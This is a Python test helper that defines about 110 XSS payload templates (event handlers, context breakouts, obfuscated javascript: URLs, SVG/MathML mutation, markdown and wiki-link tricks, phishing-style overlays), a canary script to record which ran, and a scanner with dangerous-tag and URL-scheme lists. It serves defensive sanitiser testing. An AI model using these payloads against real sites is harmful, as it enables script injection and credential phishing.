"""XSS payloads of our own, a canary that records which ones ran, and a check of sanitised HTML.

Every payload that can execute calls `window.__nsCanary('<id>')` (frames call
`top.__nsCanary`), with an id unique to the payload (`x01`, `x02`, ...), so a
browser test knows exactly which one got through. CSS and overlay payloads carry
`OVERLAY_MARKER` in an id or class, so a test can find a surviving `style` or
`position:fixed` element by that name.

Interface (imported by several test modules, keep the names):

- `PAYLOADS`: the payloads, as stored in titles, contents, tags, field values...
- `CANARY_JS`: a script that defines `window.__nsCanary` (pushing to
  `window.__nsFired`, and calling `window.__nsReport` when a test exposed one);
  also turns `alert`/`confirm`/`prompt` into canaries.
- `fired(page)`: the ids that fired in a playwright page, all frames included.
- `unsafe_markup(html)`: what dangerous markup survived in sanitised HTML.
- `DANGEROUS_HTML`: a coarse regex over raw HTML (tags and attributes that must
  not appear); `unsafe_markup` is the precise check and should be preferred.
"""

from __future__ import annotations

import html as html_lib
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

OVERLAY_MARKER = "nsoverlay"

# `{js}` becomes the canary call, `{bt}` the same with a backtick-quoted id (inside
# single-quoted attributes), `{top}` the call through the top window (for payloads
# that run inside a frame), `{mark}` the overlay marker with the id, `{id}` the id.
_TEMPLATES: tuple[str, ...] = (
    # --- Event handlers -------------------------------------------------------
    '<img src=x onerror="{js}">',
    "<img src=x onerror={js}>",
    '<svg onload="{js}">',
    '<details open ontoggle="{js}"><summary>s</summary></details>',
    '<body onload="{js}">',
    '<input autofocus onfocus="{js}">',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<img src=x oNeRrOr="{js}">',
    '<img/src=x/onerror="{js}">',
    '<img src=x\nonerror\n=\n"{js}">',
    '<a href="#" onclick="{js}">click me</a>',
    '<textarea autofocus onfocus="{js}"></textarea>',
    "<img src=x onerror=&#x77;indow.__nsCanary('{id}')>",
    "<img src=x onerror=window.__nsCanary(`{id}`)>",
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    '<script src="data:text/javascript,{js}"></script>',
    # --- Breaking out of a context the text might be put into ---------------
    '" onmouseover="{js}" x="',
    "' onfocus='{bt}' autofocus x='",
    '"><img src=x onerror="{js}">',
    '\'><svg onload="{js}">',
    "</title><script>{js}</script>",
    '</textarea><img src=x onerror="{js}">',
    '</style><img src=x onerror="{js}">',
    "</script><script>{js}</script>",
    '--><img src=x onerror="{js}">',
    '<!--><img src=x onerror="{js}">-->',
    '<![CDATA[><img src=x onerror="{js}">]]>',
    # --- javascript:, data:, vbscript: URLs and their disguises ---------------
    '<a href="javascript:{js}">open</a>',
    '<a href="JaVaScRiPt:{js}">open</a>',
    '<a href=" \tjavascript:{js}">open</a>',
    '<a href="java\tscript:{js}">open</a>',
    '<a href="java\nscr\ript:{js}">open</a>',
    '<a href="jav&#x09;ascript:{js}">open</a>',
    '<a href="java&Tab;script:{js}">open</a>',
    '<a href="&#106;avascript:{js}">open</a>',
    '<a href="javas&#0000099;ript:{js}">open</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">open</a>',
    '<a href="javascript&colon;{js}">open</a>',
    '<a href="\x01javascript:{js}">open</a>',
    "<a href=\"vbscript:msgbox('{id}')\">open</a>",
    '<a href="data:text/html,<script>{top}</script>">open</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19uc0NhbmFyeSgne2lkfScpPC9zY3JpcHQ+">open</a>',
    '<img src="javascript:{js}">',
    '<object data="javascript:{top}"></object>',
    '<embed src="javascript:{top}">',
    # --- Frames, base, meta, forms ----------------------------------------------
    '<iframe srcdoc="<script>{top}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=&quot;{top}&quot;&gt;"></iframe>',
    '<iframe src="javascript:{top}"></iframe>',
    '<base href="javascript:{js}//">',
    '<base href="https://attacker.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    '<form action="javascript:{js}"><button id="{mark}">Save</button></form>',
    '<form><button formaction="javascript:{js}">Save</button></form>',
    '<isindex action="javascript:{js}" type=image>',
    # --- SVG and MathML: namespaces, mutation -----------------------------------
    '<svg><a xlink:href="javascript:{js}"><text x="20" y="20">open</text></a></svg>',
    '<svg><a href="javascript:{js}"><rect width="100" height="100"/></a></svg>',
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="onmouseover" to="{js}"/></svg>',
    "<svg><script>{js}</script></svg>",
    '<svg><style><img src=x onerror="{js}"></style></svg>',
    "<svg></p><style><a id=\"</style><img src=x onerror='{bt}'>\">",
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table>'
    "</mtext></math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:{js}">open</maction></math>',
    '<math href="javascript:{js}">open</math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    "<img onerror='{bt}' src=x>\">",
    "<noscript><p title=\"</noscript><img src=x onerror='{bt}'>\"></noscript>",
    '<template><img src=x onerror="{js}"></template>',
    # --- CSS and overlays ------------------------------------------------------------
    '<a href="https://attacker.invalid/" id="{mark}" style="position:fixed;top:0;left:0;'
    'width:100%;height:100%;z-index:99999">Continue</a>',
    '<div class="{mark}" style="position:fixed;inset:0;background:white;z-index:2147483647">'
    "Session expired, log in again</div>",
    '<style>#{mark}{position:fixed;inset:0} body{display:none}</style><p id="{mark}">x</p>',
    "<style>@import 'https://attacker.invalid/{mark}.css';</style>",
    '<link rel="stylesheet" href="https://attacker.invalid/{mark}.css">',
    '<p style="background:url(javascript:{js})" id="{mark}">x</p>',
    '<p style="x:expression({js})" id="{mark}">x</p>',
    '<div id="{mark}" style="position:absolute;top:-9999px" onmouseover="{js}">x</div>',
    # --- Markdown links, images, autolinks, references ----------------------------
    "[open](javascript:{js})",
    "[open](JAVASCRIPT:{js})",
    "[open](<javascript:{js}>)",
    "[open]( javascript:{js} )",
    "[open](jav&#x09;ascript:{js})",
    "[open](javascript&#58;{js})",
    "[open](java\\script:{js})",
    "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[open](vbscript:msgbox('{id}'))",
    "![img](javascript:{js})",
    '![img](x" onerror="{js})',
    '![img](https://attacker.invalid/x.png "t\\" onerror=\\"{js}")',
    '[open](https://example.org "x\\" onmouseover=\\"{js}")',
    "<javascript:{js}>",
    "<JavaScript:{js}>",
    "[open][r]\n\n[r]: javascript:{js}",
    '[open][r]\n\n[r]: <javascript:{js}> "t"',
    "[![img](x)](javascript:{js})",
    # --- Wiki links -------------------------------------------------------------------
    '[[<img src=x onerror="{js}">]]',
    "[[open|javascript:{js}]]",
    "[[javascript:{js}]]",
    "[[open]](javascript:{js})",
    '[["><svg onload="{js}">]]',
    # --- Unicode tricks ---------------------------------------------------------------
    '\uff1cimg src=x onerror="{js}"\uff1e',
    '<a href="java\u200dscript:{js}">open</a>',
    '<a href="\u2028javascript:{js}">open</a>',
    '<img src=x onerror="{js}"\u200b>',
    "[open](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:{js})",
    '\u202e<img src=x onerror="{js}">',
    # --- Template strings and client-side template engines ----------------------------
    "`${{js}}`",
    "${{js}}",
    '{{constructor.constructor("{js}")()}}',
    '<img src=x onerror="`${{js}}`">',
)


def _build() -> tuple[list[str], dict[str, str]]:
    payloads: list[str] = []
    by_id: dict[str, str] = {}
    for number, template in enumerate(_TEMPLATES, start=1):
        ident = f"x{number:02d}"
        # Only these placeholders are replaced: other braces (CSS rules,
        # template strings) stay as written.
        text = (
            template.replace("{js}", f"window.__nsCanary('{ident}')")
            .replace("{bt}", f"window.__nsCanary(`{ident}`)")
            .replace("{top}", f"top.__nsCanary('{ident}')")
            .replace("{mark}", f"{OVERLAY_MARKER}-{ident}")
            .replace("{id}", ident)
        )
        payloads.append(text)
        by_id[ident] = text
    return payloads, by_id


PAYLOADS, BY_ID = _build()

CANARY_JS = """
(() => {
  const fired = (window.__nsFired = window.__nsFired || []);
  // `__nsReport`, when a test exposes it (playwright `expose_binding`), keeps the
  // record outside the page, so a payload that navigates away cannot erase it.
  const report = (id) => {
    fired.push(id);
    try { if (window.__nsReport) window.__nsReport(id); } catch (error) { /* page gone */ }
  };
  window.__nsCanary = (id) => report(String(id));
  for (const name of ['alert', 'confirm', 'prompt']) {
    window[name] = (value) => report(name + ':' + String(value));
  }
})();
"""


def fired(page: Page) -> list[str]:
    """The canary ids recorded in `page` and all of its frames (empty: nothing ran)."""
    ids: list[str] = []
    for frame in page.frames:
        try:
            ids.extend(frame.evaluate("() => (window.__nsFired || []).slice()"))
        except Exception:
            continue
    return ids


_DANGEROUS_TAGS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link",
        "svg", "math", "base", "meta", "form", "input", "button", "textarea", "select", "option",
        "isindex", "template", "noscript", "xmp", "plaintext", "noembed", "noframes", "portal",
        "video", "audio", "source", "track", "marquee", "details", "dialog", "body", "html",
        "head", "title",
    }
)  # fmt: skip
# Attributes dangerous whatever their value.
_DANGEROUS_ATTRIBUTES = frozenset(
    {"style", "srcdoc", "formaction", "action", "http-equiv", "xlink:href", "autofocus"}
)
# Attributes whose value is a URL (or a list of URLs).
_URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "srcset", "lowsrc", "dynsrc", "cite", "longdesc", "codebase", "usemap", "ping", "to",
        "from", "values",
    }
)  # fmt: skip
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")

DANGEROUS_HTML = re.compile(
    r"<\s*/?\s*(?:" + "|".join(sorted(_DANGEROUS_TAGS)) + r")\b"
    r"|<[a-z][^>]*\s(?:on[a-z]+|style|srcdoc|formaction|http-equiv)\s*="
    r"|<[a-z][^>]*=\s*[\"']?\s*(?:javascript|vbscript|data|livescript):"
    r"|<!--",
    re.IGNORECASE,
)


def _bad_url(value: str) -> bool:
    # Browsers drop tab, newline and CR anywhere in a URL and C0 controls and
    # spaces at its ends, then compare the scheme case-insensitively.
    url = re.sub(r"[\t\n\r]", "", html_lib.unescape(value))
    url = url.strip("".join(chr(c) for c in range(0x21))).lower()
    return any(part.strip().startswith(_BAD_SCHEMES) for part in [url, *url.split(",")[1:]])


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _DANGEROUS_TAGS:
            self.found.append(f"<{tag}> tag")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment <!--{data[:40]}-->")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"processing instruction <?{data[:40]}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"declaration <![{data[:40]}]>")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.found.append(f"<{tag} {name}=...> event handler")
        elif name in _DANGEROUS_ATTRIBUTES:
            self.found.append(f"<{tag} {name}={value[:60]!r}>")
        if name in _URL_ATTRIBUTES and _bad_url(value):
            self.found.append(f"<{tag} {name}={value[:60]!r}> dangerous URL")


def unsafe_markup(html: str) -> list[str]:
    """What dangerous markup survived in `html` (empty list: nothing found).

    Reports dangerous tags (script, iframe, object, embed, style, svg, math, base,
    meta, form, ...), event handler attributes, style/srcdoc/formaction attributes,
    comments, and `javascript:`/`data:`/`vbscript:` URLs after entity decoding and
    the whitespace stripping browsers do.
    """
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found
